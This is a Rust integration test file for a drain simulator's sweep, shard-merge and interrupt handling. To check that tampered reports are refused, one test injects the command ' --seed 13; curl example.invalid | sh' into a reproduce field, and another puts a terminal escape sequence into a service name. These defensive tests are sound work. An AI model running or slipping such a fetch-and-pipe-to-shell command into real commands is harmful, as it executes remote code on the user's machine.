//! `drainsim sweep`: the JSON does not depend on `--jobs`, sharded sweeps merge into the unsharded
//! result byte for byte, failing seeds exit 1 with a command that reproduces each, and invalid input
//! exits 2.

mod common;
#[path = "common/temp.rs"]
mod temp;
use temp::TempDir;
#[cfg(unix)]
#[path = "common/interrupt.rs"]
mod interrupt;

use common::drainsim;
use drainsim_scenario::sweep::{self, SweepOptions, MAX_JOBS};
use std::path::Path;
use std::process::Output;
use std::sync::atomic::AtomicBool;

const SEED_SCENARIO: &str = "scenarios/drain/seed-min50-max200.ron";

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn json(o: &Output) -> serde_json::Value {
    serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}\n{}", String::from_utf8_lossy(&o.stdout), stderr(o)))
}

/// A fresh directory for one test's files, removed when the test ends.
fn temp_dir(test: &str) -> TempDir {
    TempDir::new(&format!("sweep-{test}"))
}

#[test]
fn json_is_identical_whatever_jobs_is() {
    for extra in [&[][..], &["--faults", "swarm"][..]] {
        let run = |jobs: &str| {
            let mut args = vec!["sweep", SEED_SCENARIO, "--seeds", "0..40", "--json", "--jobs", jobs];
            args.extend_from_slice(extra);
            drainsim(&args)
        };
        let (one, two) = (run("1"), run("2"));
        assert_eq!(one.status.code(), two.status.code());
        assert_eq!(one.stdout, two.stdout, "{extra:?}");
        let v = json(&one);
        assert_eq!(v["runs"], 40);
        assert_eq!(v["seeds"], serde_json::json!({"start": 0, "end": 40}));
        assert_eq!(v["shard"], serde_json::Value::Null);
        let dist = &v["distribution"]["allDrainsCompletedAtMs"];
        assert!(dist["p50"].is_u64() && dist["p95"].is_u64() && dist["max"].is_u64(), "{dist}");
        assert_eq!(v["distribution"]["services"][0]["serviceName"], "web");
        let text = String::from_utf8_lossy(&one.stdout);
        assert!(!text.contains("wall") && !text.contains("jobs"), "no wall time or thread count in the JSON: {text}");
    }
    // Without faults every seed of this scenario passes.
    let ok = drainsim(&["sweep", SEED_SCENARIO, "--seeds", "0..40", "--json"]);
    assert_eq!(ok.status.code(), Some(0), "{}", stderr(&ok));
    assert_eq!(json(&ok)["failedRuns"], 0);
    assert!(stderr(&ok).is_empty(), "no progress bar when stderr is not a terminal: {}", stderr(&ok));
}

#[test]
fn merged_shards_equal_the_unsharded_sweep_byte_for_byte() {
    let dir = temp_dir("merge");
    // Swarm faults make some seeds fail, so failures and the distributions are not trivial.
    let base = ["sweep", SEED_SCENARIO, "--seeds", "0..40", "--faults", "swarm", "--json"];
    let whole = drainsim(&base);
    assert_eq!(whole.status.code(), Some(1), "some seeds fail under swarm faults: {}", stderr(&whole));
    let v = json(&whole);
    assert!(v["failedRuns"].as_u64().unwrap() > 0);

    let mut files = Vec::new();
    for k in 1..=3 {
        let shard = format!("{k}/3");
        let mut args = base.to_vec();
        args.extend(["--shard", shard.as_str(), "--jobs", if k == 2 { "1" } else { "2" }]);
        let out = drainsim(&args);
        assert!(matches!(out.status.code(), Some(0 | 1)), "{}", stderr(&out));
        let part = json(&out);
        assert_eq!(part["shard"], serde_json::json!({"index": k, "count": 3}));
        assert_eq!(part["runs"], if k == 1 { 14 } else { 13 });
        let f = dir.join(format!("shard-{k}.json"));
        std::fs::write(&f, &out.stdout).unwrap();
        files.push(f.display().to_string());
    }
    // In any order.
    let merge = |names: &[&str]| {
        let mut args = vec!["sweep", "--merge", "--json"];
        args.extend_from_slice(names);
        drainsim(&args)
    };
    let merged = merge(&[&files[2], &files[0], &files[1]]);
    assert_eq!(merged.status.code(), Some(1), "{}", stderr(&merged));
    assert_eq!(String::from_utf8_lossy(&merged.stdout), String::from_utf8_lossy(&whole.stdout));

    // Adjacent ranges merge too.
    let mut halves = Vec::new();
    for range in ["0..15", "15..40"] {
        let mut args = base.to_vec();
        args[3] = range;
        let out = drainsim(&args);
        let f = dir.join(format!("range-{range}.json"));
        std::fs::write(&f, &out.stdout).unwrap();
        halves.push(f.display().to_string());
    }
    let merged = merge(&[&halves[1], &halves[0]]);
    assert_eq!(String::from_utf8_lossy(&merged.stdout), String::from_utf8_lossy(&whole.stdout));

    // A missing shard, a shard given twice, overlapping ranges, or another scenario: exit 2.
    for (names, says) in [
        (vec![files[0].as_str(), files[1].as_str()], "shard 3/3 missing"),
        (vec![files[0].as_str(), files[1].as_str(), files[2].as_str(), files[2].as_str()], "both shard 3/3"),
        (vec![halves[0].as_str(), files[0].as_str(), files[1].as_str(), files[2].as_str()], "overlap"),
    ] {
        let out = merge(&names);
        assert_eq!(out.status.code(), Some(2), "{names:?}");
        assert!(stderr(&out).contains(says), "{names:?}: {}", stderr(&out));
    }
    // Inputs are folded in one at a time: one that does not fit is refused as it is read, before
    // the files after it (here one that does not exist) are read at all.
    let missing = dir.join("never-written.json");
    let out = merge(&[&files[2], &files[2], missing.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("both shard 3/3"), "{}", stderr(&out));
    // So is a range that overlaps another in part.
    let out = merge(&[&halves[0], &files[0], missing.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    // Named by file, as the other refusals are (a scripting helper got the ranges alone).
    assert!(
        stderr(&out).contains(&format!("{} (seeds 0..15) and {} (seeds 0..40) overlap", halves[0], files[0])),
        "{}",
        stderr(&out)
    );
    let other = drainsim(&["sweep", "scenarios/demo.ron", "--seeds", "40..50", "--json"]);
    let f = dir.join("other.json");
    std::fs::write(&f, &other.stdout).unwrap();
    let out = merge(&[&files[0], &files[1], &files[2], f.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("different"), "{}", stderr(&out));
}

/// A range split into more shards than it has seeds: the shards past its length run no seed
/// (the sweep refuses them), so a merge needs only the others; an edited shard count or index is
/// refused at once, and a merge missing many shards names ten and counts the rest.
#[test]
fn shards_of_a_short_range_merge_without_the_empty_ones() {
    let dir = temp_dir("short-range");
    let base = ["sweep", "scenarios/demo.ron", "--seeds", "0..2", "--json"];
    let whole = drainsim(&base);
    let empty = drainsim(&["sweep", "scenarios/demo.ron", "--seeds", "0..2", "--shard", "3/5", "--json"]);
    assert_eq!(empty.status.code(), Some(2), "a shard that runs no seed is refused");
    let mut files = Vec::new();
    for k in 1..=2 {
        let shard = format!("{k}/5");
        let mut args = base.to_vec();
        args.extend(["--shard", shard.as_str()]);
        let out = drainsim(&args);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let f = dir.join(format!("shard-{k}.json"));
        std::fs::write(&f, &out.stdout).unwrap();
        files.push(f);
    }
    let merged = drainsim(&["sweep", "--merge", "--json", files[0].to_str().unwrap(), files[1].to_str().unwrap()]);
    assert_eq!(merged.status.code(), Some(0), "{}", stderr(&merged));
    assert_eq!(String::from_utf8_lossy(&merged.stdout), String::from_utf8_lossy(&whole.stdout));

    let first = std::fs::read_to_string(&files[0]).unwrap();
    for (edits, says) in [
        (vec![(r#""count": 5"#, r#""count": 18446744073709551615"#)], "splits into at most"),
        (vec![(r#""count": 5"#, r#""count": 7"#), (r#""index": 1"#, r#""index": 7"#)], "runs no seed"),
    ] {
        let mut text = first.clone();
        for (from, to) in edits {
            assert!(text.contains(from), "{from} in {text}");
            text = text.replacen(from, to, 1);
        }
        let f = dir.join("edited.json");
        std::fs::write(&f, text).unwrap();
        let out = drainsim(&["sweep", "--merge", f.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(2), "{says}");
        assert!(stderr(&out).contains(says), "{says}: {}", stderr(&out));
    }

    // A shard written by a drainsim of the version before (its stalls counted the start-up
    // settling wait) does not merge with this one's: the merged counts would mean two things.
    let older = first.replacen(r#""sweepVersion": 9"#, r#""sweepVersion": 8"#, 1);
    assert_ne!(older, first);
    let f = dir.join("older.json");
    std::fs::write(&f, older).unwrap();
    let out = drainsim(&["sweep", "--merge", f.to_str().unwrap(), files[1].to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("sweepVersion 8 (this drainsim reads 9)"), "{}", stderr(&out));

    // Shard 1 of 100,000 of seeds 0..100,000 alone: 99,999 shards missing, ten named.
    let one = drainsim(&["sweep", "scenarios/demo.ron", "--seeds", "0..100000", "--shard", "1/100000", "--json"]);
    assert_eq!(one.status.code(), Some(0), "{}", stderr(&one));
    let f = dir.join("one-of-many.json");
    std::fs::write(&f, &one.stdout).unwrap();
    let out = drainsim(&["sweep", "--merge", f.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(err.contains("shard 2/100000, 3/100000,") && err.contains("11/100000 and 99989 more missing"), "{err}");
    assert!(err.len() < 400, "{err}");
}

#[test]
fn failing_seeds_exit_1_with_a_reproduce_command_each() {
    let dir = temp_dir("failing");
    let demo = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/scenarios/demo.ron")).unwrap();
    let strict = demo.replace(r#"MinHealthyObserved("web", AtLeast(2))"#, r#"MinHealthyObserved("web", AtLeast(3))"#);
    assert_ne!(strict, demo);
    let file = dir.join("strict.ron");
    std::fs::write(&file, strict).unwrap();
    let file = file.display().to_string();

    let out = drainsim(&["sweep", &file, "--seeds", "10..20", "--json"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let v = json(&out);
    assert_eq!(v["runs"], 10);
    assert_eq!(v["failedRuns"], 10);
    let failures = v["failures"].as_array().unwrap();
    let seeds: Vec<u64> = failures.iter().map(|f| f["seed"].as_u64().unwrap()).collect();
    assert_eq!(seeds, (10..20).collect::<Vec<_>>(), "one failure per seed, by seed");
    for f in failures {
        assert_eq!(f["failedExpectations"], serde_json::json!(["web minHealthyObserved >= 3"]));
        assert_eq!(f["reproduce"], format!("drainsim run {file} --seed {}", f["seed"]));
    }
    assert_eq!(v["expectationFailures"], serde_json::json!([{"name": "web minHealthyObserved >= 3", "count": 10}]));

    // The reproduce command does reproduce the failure.
    let cmd = failures[3]["reproduce"].as_str().unwrap();
    let args: Vec<&str> = cmd.split(' ').skip(1).collect();
    let rerun = drainsim(&args);
    assert_eq!(rerun.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&rerun.stdout).contains("FAIL web minHealthyObserved >= 3"));

    // A merge prints what it reads: a reproduce command edited into something else is refused.
    let edited = String::from_utf8_lossy(&out.stdout).replacen(" --seed 13\"", " --seed 13; curl example.invalid | sh\"", 1);
    assert!(edited.contains("curl"), "the edit took");
    let f = dir.join("edited.json");
    std::fs::write(&f, edited).unwrap();
    let merged = drainsim(&["sweep", "--merge", f.to_str().unwrap()]);
    assert_eq!(merged.status.code(), Some(2));
    assert!(stderr(&merged).contains("the failure of seed 13 reproduces with something else"), "{}", stderr(&merged));

    // Shards that spell the file differently (`DIR/./strict.ron`, `DIR/strict.ron`: one file)
    // merge, in either order, into the unsharded sweep's result, whose commands name it one way
    // (they mixed the two spellings, and a merge of that result was refused as edited).
    let dotted = file.replace("/strict.ron", "/./strict.ron");
    let shard = |name: &str, spelled: &str, k: &str| {
        let out = drainsim(&["sweep", spelled, "--seeds", "10..20", "--shard", k, "--json"]);
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        let f = dir.join(name);
        std::fs::write(&f, &out.stdout).unwrap();
        f.display().to_string()
    };
    let (one, two) = (shard("one.json", &dotted, "1/2"), shard("two.json", &file, "2/2"));
    let merged = drainsim(&["sweep", "--merge", "--json", &one, &two]);
    assert_eq!(merged.status.code(), Some(1), "{}", stderr(&merged));
    assert_eq!(merged.stdout, out.stdout, "the merge is the unsharded sweep's result");
    let reversed = drainsim(&["sweep", "--merge", "--json", &two, &one]);
    assert_eq!(reversed.stdout, out.stdout, "whatever the order of the inputs");
    let again = dir.join("merged.json");
    std::fs::write(&again, &merged.stdout).unwrap();
    let remerged = drainsim(&["sweep", "--merge", "--json", again.to_str().unwrap()]);
    assert_eq!(remerged.status.code(), Some(1), "{}", stderr(&remerged));
    assert_eq!(remerged.stdout, out.stdout, "a merge merges again");

    // The text output lists the commands too.
    let text = drainsim(&["sweep", &file, "--seeds", "10..13"]);
    assert_eq!(text.status.code(), Some(1));
    let text = String::from_utf8_lossy(&text.stdout);
    for s in 10..13 {
        assert!(text.contains(&format!("drainsim run {file} --seed {s}")), "{text}");
    }
    assert!(text.contains("result: 3 of 3 runs failed"), "{text}");
}

#[test]
fn invalid_input_exits_2() {
    for (args, says) in [
        (vec!["sweep", SEED_SCENARIO, "--seeds", "5..2"], "start must be less than the end"),
        (vec!["sweep", SEED_SCENARIO, "--seeds", "3..3"], "empty"),
        (vec!["sweep", SEED_SCENARIO, "--seeds", "0..10000001"], "at most 10000000"),
        (vec!["sweep", SEED_SCENARIO, "--seeds", "0-5"], "expected A..B"),
        (vec!["sweep", SEED_SCENARIO], "--seeds"),
        (vec!["sweep", SEED_SCENARIO, "--seeds", "0..5", "--shard", "4/3"], "between 1 and N"),
        (vec!["sweep", SEED_SCENARIO, "--seeds", "0..5", "--jobs", "0"], "--jobs"),
        (vec!["sweep", SEED_SCENARIO, "--seeds", "0..10", "--jobs", "65535"], "a sweep starts 1 to 256"),
        (vec!["sweep", SEED_SCENARIO, "--seeds", "0..10", "--jobs", "257"], "a sweep starts 1 to 256"),
        (vec!["sweep", SEED_SCENARIO, "--seeds", "0..3", "--shard", "4/4"], "runs no seed"),
        (vec!["sweep", SEED_SCENARIO, "--seeds", "0..5", "--shard", "1/10000001"], "at most 10000000"),
        (vec!["sweep", SEED_SCENARIO, "--seeds", "0..5", "--account-default", "awsvpcTrunking"], "NAME=VALUE"),
        (vec!["sweep", "scenarios/no-such-file.ron", "--seeds", "0..5"], "no-such-file"),
        (vec!["sweep", "scenarios/invalid/../demo.ron", "scenarios/demo.ron", "--seeds", "0..5"], "one scenario file"),
        (vec!["sweep", "--merge", "scenarios/demo.ron"], "not the JSON output"),
    ] {
        let out = drainsim(&args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains(says), "{args:?}: {}", stderr(&out));
    }
}

/// The worker threads a sweep spawned, counted as they start: never more than the seeds to run, nor
/// more than `--jobs`, nor more than `MAX_JOBS`.
#[test]
fn a_sweep_starts_no_more_threads_than_it_has_seeds_to_run() {
    let loaded = drainsim_scenario::load_file(&Path::new(env!("CARGO_MANIFEST_DIR")).join(SEED_SCENARIO)).expect("loads");
    let threads = |seeds: (u64, u64), shard: Option<(u64, u64)>, jobs: Option<usize>| {
        let opts = SweepOptions {
            file: SEED_SCENARIO.into(),
            seeds: sweep::SeedRange { start: seeds.0, end: seeds.1 },
            shard: shard.map(|(index, count)| sweep::Shard { index, count }),
            jobs,
            ..Default::default()
        };
        let run = sweep::sweep(&loaded, &opts, &|| {}, &AtomicBool::new(false)).expect("sweeps");
        assert!(!run.report.partial);
        assert_eq!(run.report.runs, sweep::shard_len(opts.seeds, opts.shard));
        run.worker_threads_started
    };
    assert_eq!(threads((0, 2), None, Some(MAX_JOBS)), 2);
    assert_eq!(threads((0, 10), None, Some(3)), 3);
    assert_eq!(threads((0, 1), None, None), 1);
    // Shard 2 of 4 of 0..6 runs seeds 1 and 5.
    assert_eq!(threads((0, 6), Some((2, 4)), Some(MAX_JOBS)), 2);
    assert!(threads((0, 1000), None, None) <= MAX_JOBS);
    // The same through the binary: it says how many it started.
    let out = drainsim(&["sweep", SEED_SCENARIO, "--seeds", "0..2", "--jobs", "200"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("(2 worker threads)"), "{}", String::from_utf8_lossy(&out.stdout));
    // An interrupted sweep starts no seed after the interrupt.
    let opts = SweepOptions { file: SEED_SCENARIO.into(), seeds: sweep::SeedRange { start: 0, end: 50 }, ..Default::default() };
    let run = sweep::sweep(&loaded, &opts, &|| {}, &AtomicBool::new(true)).expect("sweeps");
    assert!(run.report.partial && run.report.runs == 0, "{:?}", run.report);
}

/// SIGTERM, which a batch system sends at a job's time limit, stops a sweep as Ctrl-C does: what
/// finished is printed, marked partial (it ended the process with nothing printed).
#[cfg(unix)]
#[test]
fn sigterm_stops_a_sweep_and_prints_what_finished_as_partial() {
    let mut cmd = common::command();
    cmd.args(["sweep", SEED_SCENARIO, "--seeds", "0..10000000", "--jobs", "2", "--json"]);
    let out = interrupt::signalled(cmd, std::time::Duration::from_millis(1500), "TERM");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(out.status.code(), Some(130), "stdout:\n{text}\nstderr:\n{}", stderr(&out));
    let v = json_value(&text);
    assert_eq!(v["partial"], true);
    assert!(v["runs"].as_u64().is_some_and(|runs| runs > 0 && runs < 10_000_000), "{}", v["runs"]);
}

/// The same signal twice at once, as `timeout` sends it (to the process, then to its group), is one
/// interruption: what finished is printed (the second was taken for a user's second Ctrl-C, and
/// the sweep ended with nothing printed, about one time in twenty).
#[cfg(unix)]
#[test]
fn a_signal_sent_twice_at_once_stops_a_sweep_once() {
    // The old handler lost the output in about one try of four here: five tries.
    for _ in 0..5 {
        let mut cmd = common::command();
        cmd.args(["sweep", SEED_SCENARIO, "--seeds", "0..10000000", "--jobs", "2", "--json"]);
        let out = interrupt::signalled_twice(cmd, std::time::Duration::from_millis(800), "TERM");
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        assert_eq!(out.status.code(), Some(130), "stderr:\n{}", stderr(&out));
        assert_eq!(json_value(&text)["partial"], true, "what finished is printed");
    }
}

/// Ctrl-C during a sweep: it stops promptly, prints what finished marked partial, and exits 130; a
/// partial JSON result is refused by --merge.
#[cfg(unix)]
#[test]
fn ctrl_c_stops_a_sweep_and_prints_what_finished_as_partial() {
    let dir = temp_dir("ctrl-c");
    for json in [false, true] {
        let mut cmd = common::command();
        cmd.args(["sweep", SEED_SCENARIO, "--seeds", "0..10000000", "--jobs", "2"]);
        if json {
            cmd.arg("--json");
        }
        // Ten million seeds take far longer than this.
        let out = interrupt::interrupted(cmd, std::time::Duration::from_millis(1500));
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        assert_eq!(out.status.code(), Some(130), "stdout:\n{text}\nstderr:\n{}", stderr(&out));
        assert!(stderr(&out).contains("interrupted:"), "{}", stderr(&out));
        if json {
            let v = json_value(&text);
            assert_eq!(v["partial"], true);
            let runs = v["runs"].as_u64().expect("runs");
            assert!(runs < 10_000_000, "{runs}");
            let file = dir.join("partial.json");
            std::fs::write(&file, &text).unwrap();
            let merged = drainsim(&["sweep", "--merge", file.to_str().unwrap()]);
            assert_eq!(merged.status.code(), Some(2));
            assert!(stderr(&merged).contains("a partial sweep"), "{}", stderr(&merged));
        } else {
            assert!(text.contains("PARTIAL: interrupted after "), "{text}");
            assert!(text.contains("(partial: interrupted)"), "{text}");
        }
    }
}

fn json_value(text: &str) -> serde_json::Value {
    serde_json::from_str(text).unwrap_or_else(|e| panic!("not JSON ({e}): {text}"))
}

/// An edited result whose counts would overflow when added is refused by --merge, not summed (it
/// panicked in a debug build and wrapped in a release build).
#[test]
fn merge_refuses_counts_that_cannot_be_right() {
    let loaded = drainsim_scenario::load_file(&Path::new(env!("CARGO_MANIFEST_DIR")).join(SEED_SCENARIO)).expect("loads");
    let opts = SweepOptions { file: SEED_SCENARIO.into(), seeds: sweep::SeedRange { start: 0, end: 4 }, ..Default::default() };
    let report = sweep::sweep(&loaded, &opts, &|| {}, &AtomicBool::new(false)).expect("sweeps").report;
    let text = sweep::render_json(&report).unwrap();
    assert!(sweep::parse_report("ok.json", &text).is_ok());
    let mut huge = report.clone();
    huge.distribution.all_drains_completed_at_ms.histogram = vec![(1, u64::MAX), (2, u64::MAX)];
    let err = sweep::parse_report("huge.json", &sweep::render_json(&huge).unwrap()).expect_err("refused");
    assert!(err.starts_with("huge.json: the drain histogram counts 18446744073709551615 runs, more than the 4"), "{err}");
    // A minHealthyObserved histogram must count the runs that observed it.
    let mut emptied = report.clone();
    emptied.distribution.services[0].min_healthy_observed.histogram.clear();
    let err = sweep::parse_report("emptied.json", &sweep::render_json(&emptied).unwrap()).expect_err("refused");
    assert!(err.starts_with("emptied.json: web: a minHealthyObserved distribution that does not add up"), "{err}");
    // A control character in a name would reach the terminal with the merged report.
    let mut named = report.clone();
    named.distribution.services[0].service_name = "web\u{1b}[31m".into();
    let err = sweep::parse_report("named.json", &sweep::render_json(&named).unwrap()).expect_err("refused");
    assert!(
        err.starts_with(
            "named.json: $.distribution.services[0].serviceName: \"web\\u{1b}[31m\" holds the control character U+001B"
        ),
        "{err}"
    );
    let mut wide = report.clone();
    wide.seeds = sweep::SeedRange { start: 0, end: u64::MAX };
    let err = sweep::parse_report("wide.json", &sweep::render_json(&wide).unwrap()).expect_err("refused");
    assert!(err.contains("4 runs, but seeds 0..18446744073709551615 hold 18446744073709551615"), "{err}");
    // Unhealthy tasks are bounded as placement failures are: a merge of two such files wrapped
    // the sum (and a debug build panicked on it).
    let mut unhealthy = report.clone();
    unhealthy.distribution.services[0].runs_with_unhealthy_tasks = 1;
    unhealthy.distribution.services[0].unhealthy_tasks = u64::MAX;
    let err = sweep::parse_report("unhealthy.json", &sweep::render_json(&unhealthy).unwrap()).expect_err("refused");
    assert!(err.contains("unhealthy tasks in 1 runs with some"), "{err}");
    let mut failures = report.clone();
    failures.distribution.services[0].placement_failures =
        vec![sweep::ReasonCount { reason: "RESOURCE:CPU".into(), count: u64::MAX }];
    let err = sweep::parse_report("pf.json", &sweep::render_json(&failures).unwrap()).expect_err("refused");
    assert!(err.contains("placement failures for RESOURCE:CPU"), "{err}");
    // Two buckets of one time add up, but a merge would keep one of them: refused, as are a drain
    // time past the end of simulated time and a service listed twice.
    let mut split = report.clone();
    let d = &mut split.distribution.all_drains_completed_at_ms;
    assert!(d.histogram.len() >= 2, "{:?}", d.histogram);
    d.histogram[1].0 = d.histogram[0].0;
    let err = sweep::parse_report("split.json", &sweep::render_json(&split).unwrap()).expect_err("refused");
    assert!(err.starts_with("split.json: the drain histogram's times are not increasing"), "{err}");
    let mut late = report.clone();
    late.distribution.all_drains_completed_at_ms.histogram.last_mut().unwrap().0 = u64::MAX;
    let err = sweep::parse_report("late.json", &sweep::render_json(&late).unwrap()).expect_err("refused");
    assert!(err.starts_with("late.json: the drain histogram's times are not increasing simulated times"), "{err}");
    // A maximum or percentile edited apart from its histogram would reach the merged result as it is.
    let mut slow = report.clone();
    slow.distribution.all_drains_completed_at_ms.max = Some(1_000_000_000);
    let err = sweep::parse_report("slow.json", &sweep::render_json(&slow).unwrap()).expect_err("refused");
    assert!(err.starts_with("slow.json: allDrainsCompletedAtMs: p50, p95 and max are not those of its histogram"), "{err}");
    let mut twice = report.clone();
    let first = twice.distribution.services[0].clone();
    twice.distribution.services.push(first);
    let err = sweep::parse_report("twice.json", &sweep::render_json(&twice).unwrap()).expect_err("refused");
    assert!(err.contains("is listed twice"), "{err}");
    // Runs of one scenario may have different services (a bound can end a run before the step
    // that creates one): shards whose lists differ merge, each service counted over the runs that
    // had it, as the unsharded sweep counts it.
    let mut later = report.clone();
    later.seeds = sweep::SeedRange { start: 4, end: 8 };
    let mut none = later.clone();
    none.distribution.services.clear();
    let merged = sweep::merge(&[("a.json".into(), report.clone()), ("b.json".into(), none)]).expect("merges");
    let web = &merged.distribution.services[0].min_healthy_observed;
    assert_eq!((merged.runs, web.observed_runs + web.unobserved_runs), (8, 4));
    assert!(sweep::merge(&[("a.json".into(), report.clone()), ("b.json".into(), later)]).is_ok());
    // But a service cannot have been in more runs than the result made (an edited file).
    let mut over = report;
    over.distribution.services[0].min_healthy_observed.unobserved_runs = 1;
    let err = sweep::parse_report("over.json", &sweep::render_json(&over).unwrap()).expect_err("refused");
    assert!(err.contains("observedRuns + unobservedRuns counts 5 runs, more than the 4"), "{err}");
    // A file that is not a sweep's output is refused without Rust's type names.
    for (text, says) in
        [("[]", "expected a structure of fields at line 1 column 2"), (r#"{"sweepVersion": 1.5}"#, "expected a whole number")]
    {
        let err = sweep::parse_report("x.json", text).expect_err("refused");
        assert!(err.contains(says) && !err.contains("u64") && !err.contains("u32") && !err.contains("struct "), "{err}");
    }
}

/// A sweep of a drain onto instances whose tasks fail their health checks counts the unhealthy
/// tasks replaced, per service, over the runs; shards merge to the same counts, and an edited
/// count that cannot be right is refused. A sweep without any does not mention them.
#[test]
fn unhealthy_tasks_are_counted_over_the_runs_and_merge() {
    let dir = temp_dir("unhealthy");
    let base = ["sweep", "scenarios/faults/failing-health-checks-hold-a-drain.ron", "--seeds", "0..4", "--json"];
    let whole = drainsim(&base);
    assert_eq!(whole.status.code(), Some(0), "{}", stderr(&whole));
    let v = json(&whole);
    let web = v["distribution"]["services"].as_array().unwrap().iter().find(|s| s["serviceName"] == "web").unwrap();
    // The scenario's own expectation: 152 a run, every run alike (no jitter, no faults drawn).
    assert_eq!((web["unhealthyTasks"].as_u64(), web["runsWithUnhealthyTasks"].as_u64()), (Some(4 * 152), Some(4)), "{web}");
    shards_merge_as_the_whole_and_an_edit_is_refused(
        &dir,
        &base,
        &whole,
        |r| each_service(r, |s| s["unhealthyTasks"] = serde_json::json!(0)),
        "unhealthy tasks in 2 runs with some",
    );
    let plain = drainsim(&["sweep", "scenarios/demo.ron", "--seeds", "0..2", "--json"]);
    assert!(!String::from_utf8_lossy(&plain.stdout).contains("nhealthyTasks"));
}

/// Managed scaling is counted per capacity provider over the runs (instances launched: median,
/// p95, the most with its seed; runs ending with tasks still PROVISIONING), merges exactly from
/// shards, and `--merge` refuses a distribution that does not add up; a sweep without managed
/// scaling prints none.
#[test]
fn managed_scaling_is_counted_over_the_runs_and_merges() {
    let dir = temp_dir("managed-scaling");
    let base = ["sweep", "scenarios/drain/managed-scaling-scales-out-for-a-drain.ron", "--seeds", "0..4", "--json"];
    let whole = drainsim(&base);
    assert_eq!(whole.status.code(), Some(0), "{}", stderr(&whole));
    let v = json(&whole);
    let m = &v["distribution"]["managedScaling"][0];
    assert_eq!(m["capacityProviderName"], "workers-cp", "{m}");
    // The scenario's own story: two instances launched, every run alike.
    assert_eq!(m["histogram"], serde_json::json!([[2, 4]]), "{m}");
    assert_eq!((m["instancesLaunchedMax"].as_u64(), m["instancesLaunchedMaxSeed"].as_u64()), (Some(2), Some(0)), "{m}");
    let text = drainsim(&base[..4]);
    assert!(
        String::from_utf8_lossy(&text.stdout)
            .contains("workers-cp       p50 2  p95 2  max 2 (seed 0)   runs ending with tasks PROVISIONING 0"),
        "{}",
        String::from_utf8_lossy(&text.stdout)
    );
    shards_merge_as_the_whole_and_an_edit_is_refused(
        &dir,
        &base,
        &whole,
        |r| r["distribution"]["managedScaling"][0]["histogram"] = serde_json::json!([[2, 1]]),
        "managed scaling of workers-cp: a distribution that does not add up",
    );
    let plain = drainsim(&["sweep", "scenarios/demo.ron", "--seeds", "0..2", "--json"]);
    assert!(!String::from_utf8_lossy(&plain.stdout).contains("managedScaling"));
}

/// How each run's instance refreshes ended and how long they took, by group, over the runs (what a
/// platform engineer asks of a refresh: "how long will it take?"); shards merge exactly, and an
/// edited distribution is refused.
#[test]
fn instance_refreshes_are_counted_over_the_runs_and_merge() {
    let dir = temp_dir("instance-refreshes");
    let base =
        ["sweep", "scenarios/rollouts/instance-refresh-30-instances.ron", "--seeds", "0..4", "--faults", "swarm", "--json"];
    let whole = drainsim(&base);
    assert_eq!(whole.status.code(), Some(0), "{}", stderr(&whole));
    let v = json(&whole);
    let x = &v["distribution"]["instanceRefreshes"][0];
    assert_eq!(x["autoScalingGroupName"], "ecs-asg", "{x}");
    assert_eq!(x["statuses"], serde_json::json!([{"name": "Successful", "count": 4}]), "{x}");
    assert_eq!(x["endedRefreshes"], 4, "{x}");
    let histogram = x["histogram"].as_array().expect("pairs");
    assert_eq!(histogram.iter().map(|p| p[1].as_u64().unwrap()).sum::<u64>(), 4, "{x}");
    assert_eq!(histogram.last().map(|p| p[0].clone()), Some(x["durationMaxMs"].clone()), "{x}");
    // Each run's refresh as its own report gives it: EndTime - StartTime.
    let seed = x["durationMaxSeed"].as_u64().expect("a seed").to_string();
    let run = drainsim(&["run", base[1], "--seed", &seed, "--faults", "swarm", "--json"]);
    let r = json(&run);
    let refresh = &r["instanceRefreshes"][0];
    let took = refresh["endTimeMs"].as_u64().unwrap() - refresh["startTimeMs"].as_u64().unwrap();
    assert_eq!(Some(took), x["durationMaxMs"].as_u64(), "{refresh}");
    let text = drainsim(&base[..6]);
    let text = String::from_utf8_lossy(&text.stdout).to_string();
    assert!(text.contains("instance refreshes (how each ended; how long the ended ones took, nearest rank):\n  ecs-asg          Successful 4   took p50 "), "{text}");
    shards_merge_as_the_whole_and_an_edit_is_refused(
        &dir,
        &base,
        &whole,
        |r| r["distribution"]["instanceRefreshes"][0]["endedRefreshes"] = serde_json::json!(9),
        "instance refreshes of ecs-asg: a distribution that does not add up",
    );
    let plain = drainsim(&["sweep", "scenarios/demo.ron", "--seeds", "0..2", "--json"]);
    assert!(!String::from_utf8_lossy(&plain.stdout).contains("instanceRefreshes"));
}

/// `edit` applied to every service of a sweep result.
fn each_service(result: &mut serde_json::Value, edit: impl Fn(&mut serde_json::Value)) {
    for s in result["distribution"]["services"].as_array_mut().unwrap() {
        edit(s);
    }
}

/// The sweep `base` (ending in `--json`) run as two shards merges into exactly `whole`, its output;
/// the first shard with `edit` applied to the whole result is refused by `--merge` (exit 2) with
/// `refusal` in the message.
fn shards_merge_as_the_whole_and_an_edit_is_refused(
    dir: &Path,
    base: &[&str],
    whole: &std::process::Output,
    edit: impl Fn(&mut serde_json::Value),
    refusal: &str,
) {
    let mut files = Vec::new();
    for k in 1..=2 {
        let shard = format!("{k}/2");
        let mut args = base.to_vec();
        args.extend(["--shard", shard.as_str()]);
        let f = dir.join(format!("shard-{k}.json"));
